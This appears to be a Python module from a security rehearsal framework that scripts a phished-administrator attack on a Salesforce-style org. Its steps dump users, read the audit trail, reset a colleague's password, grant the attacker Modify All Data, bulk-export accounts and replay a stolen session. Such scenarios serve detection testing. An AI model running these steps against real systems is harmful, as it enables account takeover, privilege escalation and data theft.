"""A phished administrator: the password and the mailbox are in strange hands."""

from tasks.rehearsal.model import Attack, Caller, Refused, Step
from tasks.rehearsal.moves import count, literal, replay, sign_in, without_certificate


def dump_users(caller: Caller) -> str:
    return f"{count(caller, 'SELECT Id, Username, Email, Title FROM User'):,} users"


def read_audit_trail(caller: Caller) -> str:
    return f"{count(caller, 'SELECT Action, Display, CreatedDate FROM SetupAuditTrail'):,} entries"


def reset_password(caller: Caller) -> str:
    """A colleague's, so that there is a second way in: the platform makes up the new one and answers with it."""
    soql = "SELECT Id FROM User WHERE IsActive = true AND UserType = 'Standard' AND Profile.Name LIKE '%Service%' LIMIT 1"
    found = caller.call("GET", "query", query={"q": soql})["records"]
    if not found:
        raise Refused(200, "NO_SUCH_USER")
    answer = caller.call("DELETE", f"sobjects/User/{found[0]['Id']}/password")
    return "a colleague's new password" if answer["NewPassword"] else "nothing"


def grant_itself(caller: Caller) -> str:
    """Any permission set with Modify All Data; what it holds already is as good."""
    soql = "SELECT Id FROM PermissionSet WHERE PermissionsModifyAllData = true AND IsOwnedByProfile = false LIMIT 1"
    found = caller.call("GET", "query", query={"q": soql})["records"]
    if not found:
        raise Refused(200, "NO_SUCH_SET")
    grant = {"PermissionSetId": found[0]["Id"], "AssigneeId": own_id(caller)}
    try:
        caller.call("POST", "sobjects/PermissionSetAssignment", body=grant)
    except Refused as refused:
        if refused.code != "DUPLICATE_VALUE":
            raise
    return "Modify All Data"


def own_id(caller: Caller) -> str:
    soql = f"SELECT Id FROM User WHERE Username = {literal(caller.loot.username)}"
    return str(caller.call("GET", "query", query={"q": soql})["records"][0]["Id"])


def export_accounts(caller: Caller) -> str:
    return f"{caller.export('SELECT Id, Name, Phone FROM Account'):,} accounts"


ATTACK = Attack(
    "phished-admin",
    "A phished administrator",
    (
        Step("Sign in from abroad with the password", sign_in),
        Step("Copy the list of users", dump_users),
        Step("Read the setup audit trail", read_audit_trail),
        Step("Reset a colleague's password", reset_password),
        Step("Grant itself Modify All Data", grant_itself),
        Step("Export every account in bulk", export_accounts),
        Step("Use the stolen session from another address", replay),
        Step("Call the mutual-TLS port without a certificate", without_certificate),
    ),
)
